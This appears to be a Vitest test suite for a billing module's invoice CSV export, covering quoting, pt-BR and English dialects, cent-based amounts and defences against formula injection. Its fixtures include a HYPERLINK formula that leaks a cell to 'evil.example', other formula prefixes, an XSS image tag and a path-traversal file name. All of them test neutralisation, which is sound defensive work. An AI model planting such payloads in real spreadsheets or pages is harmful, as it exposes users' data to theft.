import { describe, expect, it } from 'vitest';
import { csvFileName, invoicesToCsv } from '@/lib/billing/invoice-csv';
import { centsToDecimal, csvDialect, neutralizeFormula, quoteField } from '@/lib/billing/csv';
import { spreadsheetCells } from '@/lib/billing/invoice-csv.support';
import type { Invoice } from '@/lib/billing/model';

const BOM = '\uFEFF';
const HEADER = 'numero,periodo,valor,moeda,status,status_original,vencimento,pago_em\r\n';

function invoice(over: Partial<Invoice> = {}): Invoice {
  return {
    id: 'INV-202611-BELGO-',
    number: 'INV-202611-BELGO-',
    period: 'November 2026',
    total: { cents: 20000, currency: 'BRL' },
    status: 'pending',
    rawStatus: 'pending',
    dueDate: '2026-12-10T12:03:16.032560',
    paidAt: null,
    ...over,
  };
}

describe('invoicesToCsv', () => {
  it('writes the BOM, the header and one CRLF-terminated row per invoice', () => {
    const csv = invoicesToCsv([
      invoice(),
      invoice({
        number: 'FAT-2026-0002',
        period: '2026-10',
        total: { cents: 23650, currency: 'BRL' },
        status: 'paid',
        rawStatus: 'paid',
        dueDate: '2026-11-10',
        paidAt: '2026-11-05T09:00:00Z',
      }),
    ]);
    expect(csv).toBe(
      BOM +
        HEADER +
        'INV-202611-BELGO-,November 2026,200.00,BRL,pending,pending,2026-12-10,\r\n' +
        'FAT-2026-0002,2026-10,236.50,BRL,paid,paid,2026-11-10,2026-11-05\r\n',
    );
  });

  it('has just the header for no invoices', () => {
    expect(invoicesToCsv([])).toBe(BOM + HEADER);
  });

  it('keeps the header ASCII', () => {
    expect(/^[\x20-\x7e]+\r\n$/.test(HEADER)).toBe(true);
  });

  it('builds amounts from integer cents, never through floats', () => {
    const rows = [1, 5, 10, 99, 100, 105, 123456789, 0, -5, -12345, 2.4, 2.6].map((cents) =>
      invoicesToCsv([invoice({ total: { cents, currency: 'BRL' } })]).split('\r\n')[1]!.split(',')[2],
    );
    expect(rows).toEqual(['0.01', '0.05', '0.10', '0.99', '1.00', '1.05', '1234567.89', '0.00', '-0.05', '-123.45', '0.02', '0.03']);
    expect(centsToDecimal(Number.NaN)).toBe('');
    // 0.1 + 0.2 style drift cannot happen: 30 cents is "0.30".
    expect(centsToDecimal(10 + 20)).toBe('0.30');
  });

  it('quotes commas, semicolons, tabs, quotes and line breaks (RFC 4180)', () => {
    const csv = invoicesToCsv([
      invoice({ number: 'A,1', period: 'say "hi"', rawStatus: 'line\r\nbreak', status: 'other', dueDate: 'soon\n', paidAt: 'a;b' }),
      invoice({ number: 'A\t1' }),
    ]);
    expect(csv).toBe(
      BOM +
        HEADER +
        '"A,1","say ""hi""",200.00,BRL,other,"line\r\nbreak","soon\n","a;b"\r\n' +
        '"A\t1",November 2026,200.00,BRL,pending,pending,2026-12-10,\r\n',
    );
  });

  it('writes ";" and a decimal comma for a pt-BR spreadsheet, "," and a dot for an English one', () => {
    const invoices = [invoice({ total: { cents: -123450, currency: 'BRL' }, paidAt: 'x;y' })];
    expect(invoicesToCsv(invoices, 'pt-BR')).toBe(
      BOM + HEADER.replaceAll(',', ';') + 'INV-202611-BELGO-;November 2026;"-1234,50";BRL;pending;pending;2026-12-10;"x;y"\r\n',
    );
    expect(invoicesToCsv(invoices, 'en')).toBe(
      BOM + HEADER + 'INV-202611-BELGO-,November 2026,-1234.50,BRL,pending,pending,2026-12-10,"x;y"\r\n',
    );
  });

  it('a host "x;=…" never becomes a formula cell, whichever separator the spreadsheet splits on', () => {
    const hostile = invoice({ number: 'x;=HYPERLINK("http://evil.example","y")', period: 'a,+1', rawStatus: 'b\t@SUM(A1)', status: 'other', dueDate: 'c"-2+3' });
    for (const locale of ['pt-BR', 'en']) {
      const body = invoicesToCsv([hostile], locale).slice(BOM.length);
      for (const separator of [',', ';', '\t']) {
        expect(spreadsheetCells(body, separator).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      }
    }
  });

  it('neutralises spreadsheet formulas and keeps markup as inert text', () => {
    const csv = invoicesToCsv([
      invoice({
        number: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
        period: '+1+1',
        rawStatus: '-2+3',
        status: 'other',
        dueDate: '@SUM(A1:A2)',
        paidAt: '\t=1',
      }),
      invoice({ number: '<img src=x onerror=alert(1)>', period: '\r=cmd', rawStatus: '\n=1', status: 'other', dueDate: null, paidAt: null }),
    ]);
    expect(csv).toBe(
      BOM +
        HEADER +
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")",'+1+1,200.00,BRL,other,'-2+3,'@SUM(A1:A2),"'\t'=1"\r\n` +
        `<img src=x onerror=alert(1)>,"'\r'=cmd",200.00,BRL,other,"\n'=1",,\r\n`,
    );
  });

  it('does not touch negative amounts it built itself', () => {
    const csv = invoicesToCsv([invoice({ total: { cents: -1050, currency: 'BRL' } })]);
    expect(csv.split('\r\n')[1]).toBe('INV-202611-BELGO-,November 2026,-10.50,BRL,pending,pending,2026-12-10,');
  });

  it('keeps accents (UTF-8 with a BOM)', () => {
    const csv = invoicesToCsv([invoice({ period: 'março de 2026', rawStatus: 'em análise', status: 'other' })]);
    expect(csv.split('\r\n')[1]).toBe('INV-202611-BELGO-,março de 2026,200.00,BRL,other,em análise,2026-12-10,');
    expect(Array.from(new TextEncoder().encode(csv).slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('CSV helpers', () => {
  it('neutralizeFormula prefixes only risky first characters (OWASP: = + - @ TAB CR)', () => {
    expect(['=1', '+1', '-1', '@a', '\t1', '\r1', '\n1', 'a=1', ' =1', '', "'=1"].map(neutralizeFormula)).toEqual([
      "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", '\n1', 'a=1', ' =1', '', "'=1",
    ]);
  });

  it('neutralizeFormula also prefixes them where another reader starts a cell: after , ; TAB CR LF or a quote', () => {
    expect(['x;=1', 'x,+1', 'x\t-1', 'x\r@a', 'x\n=1', 'x"=1', 'x;\t=1', 'x; =1', 'x;a=1', 'x=1;'].map(neutralizeFormula)).toEqual([
      "x;'=1", "x,'+1", "x\t'-1", "x\r'@a", "x\n'=1", `x"'=1`, "x;'\t'=1", 'x; =1', 'x;a=1', 'x=1;',
    ]);
  });

  it('quoteField quotes only when needed', () => {
    expect(quoteField('plain')).toBe('plain');
    expect(quoteField('a"b')).toBe('"a""b"');
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('a;b')).toBe('"a;b"');
    expect(quoteField('a\tb')).toBe('"a\tb"');
    expect(quoteField('a\nb')).toBe('"a\nb"');
    expect(quoteField('a\rb')).toBe('"a\rb"');
  });

  it('csvDialect: ";" with a decimal comma where the locale writes one, else "," with a dot', () => {
    expect(['pt-BR', 'pt', 'pt-PT', 'en', 'en-US', 'not a locale'].map((locale) => csvDialect(locale))).toEqual([
      { separator: ';', decimal: ',' },
      { separator: ';', decimal: ',' },
      { separator: ';', decimal: ',' },
      { separator: ',', decimal: '.' },
      { separator: ',', decimal: '.' },
      { separator: ',', decimal: '.' },
    ]);
  });

  it('csvFileName is faturas-<tenant>-<YYYY-MM-DD>.csv in local time', () => {
    expect(csvFileName('BELGO-001', new Date(2026, 0, 5, 23, 59))).toBe('faturas-BELGO-001-2026-01-05.csv');
    expect(csvFileName('../x y', new Date(2026, 10, 30))).toBe('faturas-___x_y-2026-11-30.csv');
  });
});
